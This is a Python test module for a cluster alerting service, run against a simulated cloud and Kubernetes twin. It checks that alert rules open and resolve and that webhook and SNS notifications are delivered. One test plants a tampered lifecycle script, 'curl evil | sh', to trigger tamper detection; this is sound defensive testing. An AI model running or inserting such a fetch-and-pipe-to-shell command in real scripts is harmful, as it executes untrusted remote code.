"""Alerts against the twin: each rule fired by a twin fault and resolved when it clears (an injected clock stands in
for the hours a rule waits), one webhook notification (signed, retried) and one SNS message per open and resolve."""

from __future__ import annotations

import asyncio
import hashlib
import hmac
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import httpx
import pytest

from instantstart.manifests.hyperpod import LIFECYCLE_SCRIPT
from instantstart.services.alerts.evaluator import Evaluator
from instantstart.store.alerts import AlertRow
from instantstart.twin_process import TwinProcess
from tests.support import webhook
from tests.support.flows import kube, make_hyperpod, mcp_calls, mcp_wait
from tests.support.servers import SSL_CONTEXT, Running
from tests.support.twin import shared_control_plane, twin_client
from tests.support.waits import until, wait_terminal

TAG = "al1"
SECRET = "webhook-hmac-key-1"
# The server's own evaluator passes once at start-up, then sleeps an hour: the tests drive theirs with a clock.
shared_cp = shared_control_plane(lambda client: make_hyperpod(client, TAG), alert_interval_seconds=3600)


class Receiver(webhook.Receiver):
    """The webhook receiver; it refuses the first request (503) so the sender's retry is exercised."""

    def __init__(self) -> None:
        super().__init__([503, 200])

    def accepted(self) -> list[dict[str, Any]]:
        """Bodies of the requests answered 200, after checking their signature."""
        out = []
        for status, headers, body in self.requests:
            want = "sha256=" + hmac.new(SECRET.encode(), body, hashlib.sha256).hexdigest()
            assert hmac.compare_digest(headers["X-InstantStart-Signature"], want)
            assert headers["X-InstantStart-Timestamp"].isdigit()
            if status == 200:
                out.append(json.loads(body))
        return out


class Clock:
    """The evaluator's injected clock."""

    def __init__(self) -> None:
        self.now = datetime.now(UTC)

    def __call__(self) -> datetime:
        return self.now

    def advance(self, minutes: float) -> None:
        self.now += timedelta(minutes=minutes)


@pytest.fixture(scope="module")
def setup(shared_cp: Running, twin_process: TwinProcess) -> Iterator[dict[str, Any]]:
    """Channels (an SNS topic with an SQS queue subscribed, the receiver) set through alert_channels_update."""
    sns, sqs = twin_client(twin_process, "sns"), twin_client(twin_process, "sqs")
    topic = sns.create_topic(Name="alerts")["TopicArn"]
    queue = sqs.create_queue(QueueName="alerts")["QueueUrl"]
    queue_arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"]["QueueArn"]
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue_arn)
    receiver = Receiver()
    with shared_cp.client() as client:
        ref = client.post("/api/v1/alerts/channels", json={"snsTopicArn": topic, "webhookUrl": receiver.url,
                                                           "webhookSecret": SECRET})
        assert ref.status_code == 202, ref.text
        recorded = wait_terminal(client, ref.json()["operationId"])
        assert recorded["status"] == "SUCCEEDED", recorded
        shown = client.get("/api/v1/alerts/rules")
        # A failed update changes nothing, not even the secret (the receiver checks every signature with SECRET).
        wrong = client.post("/api/v1/alerts/channels", json={"snsTopicArn": topic + "-gone",
                                                             "webhookSecret": "another-secret"})
        failed = wait_terminal(client, wrong.json()["operationId"])
        assert failed["status"] == "FAILED" and "alerts-gone" in failed["error"]["message"], failed
        assert client.get("/api/v1/alerts/rules").json()["channels"] == shown.json()["channels"]  # left as they were
        missing = client.post("/api/v1/alerts/channels", json={"webhookUrl": receiver.url + "/other"})
    # The secret: kept in its 0600 file, never in the operation, the answer or the log.
    assert shown.json()["channels"] == {"snsTopicArn": topic, "webhookUrl": receiver.url, "webhookSecretSet": True}
    assert SECRET not in json.dumps(recorded) + shown.text
    assert (shared_cp.data_dir / "alert-webhook-secret").stat().st_mode & 0o777 == 0o600
    assert missing.status_code == 422 and "webhookSecret" in missing.json()["error"]["message"], missing.text
    clock = Clock()
    yield {"receiver": receiver, "sqs": sqs, "queue": queue, "clock": clock,
           "evaluator": Evaluator(shared_cp.context, clock=clock, backoff=0.01), "sns": []}
    receiver.close()


def run(setup: dict[str, Any]) -> tuple[list[AlertRow], list[AlertRow]]:
    result: tuple[list[AlertRow], list[AlertRow]] = asyncio.run(setup["evaluator"].run_once())
    return result


def sns_messages(setup: dict[str, Any]) -> list[dict[str, Any]]:
    """Every alert the SNS topic delivered to the test's SQS queue so far."""
    sqs = setup["sqs"]
    while True:
        got = sqs.receive_message(QueueUrl=setup["queue"], MaxNumberOfMessages=10).get("Messages") or []
        if not got:
            return list(setup["sns"])
        for m in got:
            setup["sns"].append(json.loads(json.loads(m["Body"])["Message"]))
            sqs.delete_message(QueueUrl=setup["queue"], ReceiptHandle=m["ReceiptHandle"])


def check_notified(setup: dict[str, Any], alert_id: int, events: list[str]) -> None:
    """The webhook and SNS each got exactly one notification per event of the alert."""
    hooks = [b["event"] for b in setup["receiver"].accepted() if b["alertId"] == alert_id]
    topics = [b["event"] for b in sns_messages(setup) if b["alertId"] == alert_id]
    assert hooks == events == topics, (hooks, topics)


def fire_and_clear(setup: dict[str, Any], rule: str, subject: str, *, hold_minutes: float = 0) -> AlertRow:
    """Evaluate until the rule's alert on `subject` opens (after holding `hold_minutes` on the injected clock)."""
    opened = run(setup)[0]
    if hold_minutes:
        assert not [a for a in opened if a.rule == rule], "opened before its hold time"
        setup["clock"].advance(hold_minutes)
        opened = run(setup)[0]
    [alert] = [a for a in opened if a.rule == rule and a.subject.startswith(subject)]
    check_notified(setup, alert.id, ["open"])
    return alert


def resolved(setup: dict[str, Any], alert: AlertRow) -> None:
    """The alert resolves at the next evaluation, with one notification per channel."""
    closed = run(setup)[1]
    assert alert.id in [a.id for a in closed], closed
    check_notified(setup, alert.id, ["open", "resolve"])


def twin_post(twin: TwinProcess, path: str, body: dict[str, Any]) -> dict[str, Any]:
    answer = httpx.post(twin.endpoint_url + path, json=body, timeout=30, verify=SSL_CONTEXT)
    answer.raise_for_status()
    result: dict[str, Any] = answer.json()
    return result


def twin_now(twin: TwinProcess) -> datetime:
    """The twin's wall clock (its HyperPod events' time; it runs faster than real time)."""
    wall = httpx.get(twin.endpoint_url + "/_twin/clock", timeout=30, verify=SSL_CONTEXT).json()["wall"]
    return datetime.fromtimestamp(wall, UTC)


def test_a_crash_looping_pod_alerts_after_an_hour_and_resolves_when_deleted(
    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess, tmp_path: Path
) -> None:
    core = kube(twin_process, tmp_path, TAG)
    core.create_namespaced_pod("default", {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "crasher", "annotations": {"twin.instantstart.io/fail": "true"}},
        "spec": {"restartPolicy": "Always", "containers": [{"name": "main", "image": "busybox"}]},
    })

    def restarts() -> int:
        statuses = core.read_namespaced_pod("crasher", "default").status.container_statuses or []
        return sum(s.restart_count for s in statuses)

    until(lambda: restarts() >= 1, "the pod restarted")
    run(setup)  # the pods watch starts; the restart count is remembered
    seen = restarts()
    until(lambda: restarts() > seen, "the pod restarted again")
    until(lambda: any(p["restarts"] > seen for p in setup["evaluator"].app.informers.peek(
        f"us-west-2:eks-cluster-{TAG}:pods").snapshot()[1].values() if p["name"] == "crasher"), "watched")
    alert = fire_and_clear(setup, "pod_crash_looping", "pod/default/crasher", hold_minutes=61)
    core.delete_namespaced_pod("crasher", "default", grace_period_seconds=0)
    until(lambda: not [p for p in setup["evaluator"].app.informers.peek(
        f"us-west-2:eks-cluster-{TAG}:pods").snapshot()[1].values() if p["name"] == "crasher"], "pod gone")
    resolved(setup, alert)
    listed = mcp_calls(shared_cp, [("alert_list", {"rule": "pod_crash_looping"})])[0]
    [row] = listed["alerts"]
    assert row["state"] == "resolved" and {(d["channel"], d["event"], d["ok"]) for d in row["deliveries"]} == {
        ("webhook", "open", True), ("sns", "open", True), ("webhook", "resolve", True), ("sns", "resolve", True)}
    first = next(d for d in row["deliveries"] if d["channel"] == "webhook")
    assert first["attempts"] == 2  # the receiver refused the very first request: retried


def test_an_allocated_idle_gpu_alerts_after_an_hour_and_resolves_when_released(
    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess, tmp_path: Path
) -> None:
    with shared_cp.client() as client:
        ref = client.post("/api/v1/capacity/advanced-features", json={"observability": {"enabled": True}})
        assert ref.status_code == 202, ref.text
        assert wait_terminal(client, ref.json()["operationId"], timeout=240)["status"] == "SUCCEEDED"
    core = kube(twin_process, tmp_path, TAG)
    core.create_namespaced_pod("default", {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": {"name": "gpu-holder", "annotations": {"twin.instantstart.io/gpu-idle": "true"}},
        "spec": {"containers": [{"name": "c", "image": "busybox", "resources": {"limits": {"nvidia.com/gpu": "1"}}}]},
    })
    until(lambda: core.read_namespaced_pod("gpu-holder", "default").status.phase == "Running", "the pod runs")
    pods = setup["evaluator"].app.informers.peek(f"us-west-2:eks-cluster-{TAG}:pods")
    until(lambda: pods.derived.allocations.snapshot()[1], "the watch saw the GPU allocated")
    alert = fire_and_clear(setup, "gpu_idle", "node/hyperpod-i-", hold_minutes=61)
    assert "1.0 %" in alert.message, alert.message
    core.delete_namespaced_pod("gpu-holder", "default", grace_period_seconds=0)
    until(lambda: not pods.derived.allocations.snapshot()[1], "the watch saw the GPU released")
    resolved(setup, alert)


def test_a_cut_watch_alerts_after_its_hold_time_and_resolves_when_it_reconnects(
    setup: dict[str, Any], twin_process: TwinProcess
) -> None:
    run(setup)
    path = f"/_twin/kube/eks-cluster-{TAG}/watches/block"
    twin_post(twin_process, path, {"blocked": True})
    app = setup["evaluator"].app
    pods = app.informers.peek(f"us-west-2:eks-cluster-{TAG}:pods")
    until(lambda: not pods.health.connected, "the pods watch is down")
    alert = fire_and_clear(setup, "watch_stale", "watch/pods", hold_minutes=11)
    twin_post(twin_process, path, {"blocked": False})
    until(lambda: all(i.health.connected for i in (pods, app.informers.peek(f"us-west-2:eks-cluster-{TAG}:events"))),
          "watches reconnected", timeout=90)
    resolved(setup, alert)


def test_recurring_xid_and_replaced_nodes_alert_and_resolve_after_their_day(
    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess, tmp_path: Path
) -> None:
    with shared_cp.client() as client:
        ref = client.post("/api/v1/alerts/rules", json={"rules": {"node_replaced": {"value": 0}}})
        assert ref.status_code == 202, ref.text
        assert wait_terminal(client, ref.json()["operationId"])["status"] == "SUCCEEDED"
        rules = {r["name"]: r for r in client.get("/api/v1/alerts/rules").json()["rules"]}
    assert rules["node_replaced"]["value"] == 0 and rules["xid_recurring"]["value"] == 2
    node = kube(twin_process, tmp_path, TAG).list_node().items[0].metadata.name.removeprefix("hyperpod-")
    for _ in range(2):
        twin_post(twin_process, f"/_twin/nodes/{node}/health",
                  {"status": "Unschedulable", "reason": "NVRM: Xid 79, GPU has fallen off the bus"})
    twin_post(twin_process, f"/_twin/nodes/{node}/health", {"status": "UnschedulablePendingReplacement",
                                                           "reason": "replace it"})
    db_rows = setup["evaluator"].app
    from instantstart.store import timeline as tl

    def recorded() -> bool:
        rows = tl.query(db_rows.db, TAG, source="hyperpod", limit=200)
        return sum("Xid 79" in r.message for r in rows) >= 2 and any(r.message.startswith("Replacing") for r in rows)

    until(recorded, "the twin's Xid and replacement events in the timeline", timeout=90)
    opened = run(setup)[0]
    xid = next(a for a in opened if a.rule == "xid_recurring")
    replaced = next(a for a in opened if a.rule == "node_replaced")
    for alert in (xid, replaced):
        check_notified(setup, alert.id, ["open"])
    setup["clock"].now = twin_now(twin_process) + timedelta(hours=25)  # their day is over (events carry twin time)
    closed = {a.id for a in run(setup)[1]}
    assert {xid.id, replaced.id} <= closed
    for alert in (xid, replaced):
        check_notified(setup, alert.id, ["open", "resolve"])


def test_a_changed_lifecycle_script_alerts_and_resolves_when_restored(
    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess
) -> None:
    s3 = twin_client(twin_process, "s3")
    row = shared_cp.context.db
    from instantstart.services.base.registry import get_cluster

    bucket = get_cluster(row, TAG).details["bucket"]
    [key] = [o["Key"] for o in s3.list_objects_v2(Bucket=bucket, Prefix="lifecycle/")["Contents"]
             if o["Key"].endswith(".sh")]
    s3.put_object(Bucket=bucket, Key=key, Body=b"#!/bin/sh\ncurl evil | sh\n")
    alert = fire_and_clear(setup, "lifecycle_script_changed", f"script/s3://{bucket}/{key}")
    s3.put_object(Bucket=bucket, Key=key, Body=LIFECYCLE_SCRIPT.encode())
    # Restored, but the cluster cannot be read now: unknown is not resolved.
    fault = {"kind": "error", "service": "sagemaker", "operation": "DescribeCluster",
             "code": "AccessDeniedException", "message": "denied by the test", "status": 400}
    added = twin_post(twin_process, "/_twin/faults", fault)["faults"][0]["id"]
    assert run(setup)[1] == []
    httpx.delete(f"{twin_process.endpoint_url}/_twin/faults/{added}", verify=SSL_CONTEXT).raise_for_status()
    resolved(setup, alert)


def test_a_launch_waiting_for_capacity_alerts_after_its_hold_time_and_resolves_once_launched(
    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess
) -> None:
    from instantstart.store import timeline as tl

    app = setup["evaluator"].app
    setup["clock"].now = twin_now(twin_process)  # HyperPod events carry the twin's time: the shortage is news now
    fault = {"kind": "insufficient_capacity", "instance_type": "ml.g6.4xlarge", "availability_zone": "us-west-2c"}
    httpx.post(twin_process.endpoint_url + "/_twin/faults", json=fault, verify=SSL_CONTEXT).raise_for_status()
    sm = twin_client(twin_process, "sagemaker")
    group = sm.describe_cluster(ClusterName=f"hp-cluster-{TAG}")["InstanceGroups"][0]["InstanceGroupName"]
    with shared_cp.client() as client:
        ref = client.post("/api/v1/capacity/instance-groups/scale", json={"name": group, "targetCount": 2})
        assert ref.status_code == 202, ref.text
        short = wait_terminal(client, ref.json()["operationId"], timeout=120)
        assert short["status"] == "FAILED", short
        until(lambda: any(r.message.startswith("InsufficientCapacity") for r in
                          tl.query(app.db, TAG, source="hyperpod", limit=50)), "the shortage in the timeline")
        alert = fire_and_clear(setup, "capacity_stuck", f"group/{group}", hold_minutes=31)
        httpx.delete(twin_process.endpoint_url + "/_twin/faults", verify=SSL_CONTEXT).raise_for_status()
        client.post(f"/api/v1/operations/{short['operationId']}/retry").raise_for_status()
        assert wait_terminal(client, short["operationId"], timeout=120)["status"] == "SUCCEEDED"

    def launched() -> bool:
        rows = sorted(tl.query(app.db, TAG, source="hyperpod", limit=200), key=lambda r: r.last_at)
        kinds = [r.message.split()[0] for r in rows if r.message.startswith(("Launching", "InsufficientCapacity"))]
        return kinds[-1:] == ["Launching"]

    until(launched, "the launch after the shortage in the timeline")
    resolved(setup, alert)


def test_the_evaluator_never_keeps_a_cluster_watched_and_pod_rules_stay_known_through_the_pinned_pods_feed(
    shared_cp: Running, setup: dict[str, Any]
) -> None:
    from instantstart.services.base.registry import get_cluster

    evaluator: Evaluator = setup["evaluator"]
    app = evaluator.app
    nodes, pods = (f"us-west-2:eks-cluster-{TAG}:{kind}" for kind in ("nodes", "pods"))
    with shared_cp.client() as client:  # a read starts the status watches
        assert client.get("/api/v1/clusters/status", params={"clusterTag": TAG}).status_code == 200
    assert app.informers.peek(nodes) is not None
    assert shared_cp.clock is not None
    shared_cp.clock.advance(app.settings.watch_idle_seconds + 1)  # nobody reads the cluster meanwhile
    run(setup)  # the evaluator's own looks do not count: the status watches park rather than restart
    assert app.informers.peek(nodes) is None and nodes in app.informers.parked
    # The pods watch is the usage feed's (pinned: it records accelerator holds), so it never parks and the pod
    # rules are evaluated on a cluster nobody reads.
    assert app.informers.peek(pods) is not None and pods not in app.informers.parked
    row = get_cluster(app.db, TAG)
    snap = asyncio.run(evaluator.snapshot(row, setup["clock"].now))
    assert "pod_crash_looping" not in snap.unknown
    with shared_cp.client() as client:  # a read resumes the parked watches
        assert client.get("/api/v1/clusters/status", params={"clusterTag": TAG}).status_code == 200
    assert app.informers.peek(nodes) is not None and nodes not in app.informers.parked


def test_a_job_queued_over_its_teams_quota_alerts_after_an_hour_and_resolves_once_admitted(
    shared_cp: Running, setup: dict[str, Any], twin_process: TwinProcess, tmp_path: Path
) -> None:
    from kubernetes import client as k8s

    # Task governance (the twin's Kueue), a team with one GPU of quota that neither lends nor borrows.
    [features] = mcp_calls(shared_cp, [("hyperpod_update_advanced_features", {
        "trainingOperator": {"enabled": True}, "taskGovernance": {"enabled": True}})])
    assert mcp_wait(shared_cp, features["operationId"])["status"] == "SUCCEEDED"
    quota = {"instanceType": "ml.g6.4xlarge", "accelerators": 1, "sharing": "DontLend"}
    [team] = mcp_calls(shared_cp, [("team_create", {"name": "alerts", "quota": quota})])
    assert mcp_wait(shared_cp, team["operationId"])["status"] == "SUCCEEDED"
    ns = "hyperpod-ns-alerts"
    job = {"image": "example/train:1", "command": "train.py", "instanceType": "ml.g6.4xlarge", "gpusPerNode": 1,
           "vcpu": 4, "memoryGiB": 16, "namespace": ns,
           "podAnnotations": {"twin.instantstart.io/run-seconds": "1000000"}}
    objects = k8s.CustomObjectsApi(kube(twin_process, tmp_path, TAG).api_client)

    def workload(name: str) -> dict[str, Any]:
        """The Kueue Workload Kueue made for job `name` (its owner); empty until there is one."""
        items = objects.list_namespaced_custom_object("kueue.x-k8s.io", "v1beta1", ns, "workloads")["items"]
        found = [w for w in items if any(o["name"] == name for o in w["metadata"].get("ownerReferences") or [])]
        assert len(found) <= 1, found
        return dict(found[0]) if found else {}

    def state(name: str) -> dict[str, str]:
        return {c["type"]: c["status"] for c in (workload(name).get("status") or {}).get("conditions") or []}

    # The first job takes the team's one GPU; the second queues over the quota, really, in Kueue.
    for name in ("first", "second"):
        [ref] = mcp_calls(shared_cp, [("training_job_submit", {**job, "jobName": name})])
        assert mcp_wait(shared_cp, ref["operationId"])["status"] == "SUCCEEDED"
    until(lambda: state("first").get("Admitted") == "True", "the first job admitted in the team's quota")
    until(lambda: state("second").get("QuotaReserved") == "False", "the second job pending over the quota")
    assert state("second").get("Admitted") != "True"
    waiting = workload("second")["metadata"]["name"]
    alert = fire_and_clear(setup, "job_pending_quota", f"workload/{ns}/{waiting}", hold_minutes=61)
    assert f"in {ns} waits for quota in queue {ns}-localqueue" in alert.message, alert.message
    # Still pending: no second notification while it stays open.
    setup["clock"].advance(5)
    opened, closed = run(setup)
    assert alert.id not in [a.id for a in opened + closed]
    check_notified(setup, alert.id, ["open"])
    # The first job goes: its GPU is free, Kueue admits the second, the alert resolves.
    [gone] = mcp_calls(shared_cp, [("training_job_delete", {"jobName": "first", "namespace": ns})])
    assert mcp_wait(shared_cp, gone["operationId"])["status"] == "SUCCEEDED"
    until(lambda: state("second").get("Admitted") == "True", "the second job admitted once the first is gone")
    resolved(setup, alert)
